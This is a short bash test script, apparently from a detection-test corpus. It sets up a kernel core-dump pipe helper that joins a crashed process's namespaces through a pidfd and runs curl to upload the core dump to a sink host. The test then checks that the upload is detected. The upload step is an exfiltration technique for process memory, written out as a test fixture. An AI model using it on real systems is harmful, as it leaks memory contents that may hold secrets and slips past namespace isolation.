#!/bin/bash
# A-handler-pidfd: a core to a helper that reads its head, enters the victim's namespaces by the pidfd that the kernel gives
#   it, and becomes curl.
# flow: kernel, pipe; %F (Linux 6.16); setns of a pidfd; exec drops what was read, and curl reads the rest of the pipe and sends.
# tools: python3 curl
# expect: sent counted port critical
. "$CORPUS/lib.sh"
from_linux 6.16
cat >helper <<END
#!$(python3 -c 'import sys; print(sys.executable)')
import ctypes, os, sys
sys.stderr = open("$W/said", "w")
open("$W/pipe", "w").write(os.readlink("/proc/self/fd/0"))
head = os.read(0, 4096)
assert head[:4] == b"\x7fELF" and head[16] == 4
if ctypes.CDLL(None, use_errno=True).setns(int(sys.argv[1]), 0x40000000):
    sys.exit(f"setns: {os.strerror(ctypes.get_errno())}")
os.execv("$(command -v curl)", ["curl", "-sS", "-o", "$W/answer", "-T", "-", "http://$SINK:$PORT/core"])
END
sink http
crash_to_helper %F
until_true [ -e sink.log ]
note "dump $(cat pipe)"
sunk 100000
